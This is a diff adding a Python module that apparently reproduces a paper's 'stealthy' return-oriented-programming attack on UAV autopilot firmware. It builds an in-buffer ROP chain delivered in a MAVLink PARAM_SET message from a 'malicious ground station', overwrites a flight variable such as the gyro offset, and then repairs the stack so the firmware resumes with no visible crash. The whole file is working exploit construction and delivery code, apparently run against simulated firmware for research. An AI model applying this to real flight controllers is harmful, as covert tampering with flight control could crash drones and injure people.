@@ -1,0 +1,131 @@
+"""ROP Attack V2 — the stealthy attack with clean return (paper §IV-D).
+
+The innovation over V1: the chain lives *inside the vulnerable buffer* and
+the stack frame is repaired before the final return, so the firmware
+resumes as if nothing happened.
+
+Timeline (matching the paper's Fig. 6 progression):
+
+1.  The overflow overwrites the saved r28/r29 with ``buffer_chain - 1`` and
+    the return address with ``stk_move``.
+2.  ``stk_move`` sets SP into the buffer ("utilizing the buffer space to
+    store the attack payload") — damage to the live stack is minimized.
+3.  The in-buffer chain enters ``write_mem_gadget``'s pop half, then
+    bounces on the std half: first the attacker's write(s), then two
+    *repair* writes that restore the saved-register bytes and the original
+    return address the overflow destroyed.
+4.  A final ``stk_move`` hop puts SP back under the repaired bytes; its
+    pops restore r28/r29 and its ``ret`` consumes the repaired return
+    address — the comms task continues, the stack exactly as before.
+"""
+
+from __future__ import annotations
+
+from typing import List, Optional, Sequence
+
+from ..binfmt.image import FirmwareImage
+from ..errors import AttackError
+from ..mavlink.messages import PARAM_SET
+from ..mavlink.packet import HEADER_LENGTH
+from ..uav.autopilot import Autopilot
+from ..uav.groundstation import MaliciousGroundStation
+from .chain import ChainBuilder, Write3, ret_address_bytes
+from .results import AttackOutcome, deliver
+from .runtime_facts import RuntimeFacts, derive_runtime_facts, variable_address
+
+
+class StealthyAttack:
+    """Builds and delivers clean-return payloads against one victim image."""
+
+    def __init__(self, image: FirmwareImage, facts: Optional[RuntimeFacts] = None) -> None:
+        self.image = image
+        self.facts = facts if facts is not None else derive_runtime_facts(image)
+        self.builder = ChainBuilder(image)
+
+    # -- payload construction ------------------------------------------------
+
+    def repair_writes(self) -> List[Write3]:
+        """The two stores that undo the overflow's damage."""
+        facts = self.facts
+        return [
+            # restore the bytes the closing stk_move will pop into
+            # r28/r29/r16 (the saved-register slots the overflow clobbered)
+            Write3(
+                facts.frame_sp - 2,
+                bytes([facts.saved_r28, facts.saved_r29, 0x00]),
+            ),
+            # restore the pushed return address (high, mid, low in memory)
+            Write3(
+                facts.frame_sp + 1,
+                ret_address_bytes(facts.return_address_word),
+            ),
+        ]
+
+    def home_hop_regs(self) -> dict:
+        """r28/r29 for the final stk_move: SP = frame_sp - 3.
+
+        Its three pops then consume the repaired saved-register bytes and
+        its ret consumes the repaired return address, leaving SP exactly
+        where a normal return would have.
+        """
+        new_sp = self.facts.frame_sp - 3
+        return {28: new_sp & 0xFF, 29: (new_sp >> 8) & 0xFF}
+
+    def attack_bytes(self, writes: Sequence[Write3]) -> bytes:
+        """Everything after the MAVLink header in the exploit burst."""
+        facts = self.facts
+        builder = self.builder
+        chain = builder.chain_block(
+            list(writes) + self.repair_writes(),
+            final_ret_word=builder.stk.entry_word,
+            final_regs=self.home_hop_regs(),
+        )
+        chain_base = facts.buffer_start + HEADER_LENGTH
+        if HEADER_LENGTH + len(chain) > facts.buffer_size:
+            raise AttackError(
+                f"V2 chain needs {HEADER_LENGTH + len(chain)} bytes but the "
+                f"buffer holds {facts.buffer_size}; use the V3 trampoline "
+                "for payloads this large"
+            )
+        body = chain
+        body += bytes([0xEE]) * (facts.buffer_size - HEADER_LENGTH - len(chain))
+        hop = chain_base - 1  # SP target for the first stk_move
+        body += bytes([(hop >> 8) & 0xFF, hop & 0xFF])  # saved r29, r28 slots
+        body += ret_address_bytes(builder.stk.entry_word)
+        return body
+
+    def max_payload_writes(self) -> int:
+        """How many 3-byte writes fit in one buffer-resident chain."""
+        available = self.facts.buffer_size - HEADER_LENGTH
+        per_block = self.builder.wm.pop_bytes + 3
+        header = self.builder.stk.pop_bytes + 3
+        blocks = (available - header) // per_block
+        return max(blocks - 1 - len(self.repair_writes()), 0)
+
+    # -- delivery --------------------------------------------------------------
+
+    def execute(
+        self,
+        autopilot: Autopilot,
+        gcs: Optional[MaliciousGroundStation] = None,
+        target_variable: str = "gyro_offset",
+        values: bytes = b"\x40\x00\x00",
+        observe_ticks: int = 30,
+    ) -> AttackOutcome:
+        """Deliver a single-write stealthy attack and observe the aftermath."""
+        station = gcs if gcs is not None else MaliciousGroundStation()
+        target = variable_address(self.image, target_variable)
+        burst = station.exploit_burst(
+            PARAM_SET.msg_id, self.attack_bytes([Write3(target, values)])
+        )
+        symbol = self.image.symbols.get(target_variable)
+        padded = values + bytes(max(symbol.size - len(values), 0))
+        expected = int.from_bytes(padded[: symbol.size], "little")
+        return deliver(
+            autopilot,
+            station,
+            [burst],
+            observe_ticks=observe_ticks,
+            watch_variables={target_variable: expected},
+            name="rop-v2-stealthy",
+        )
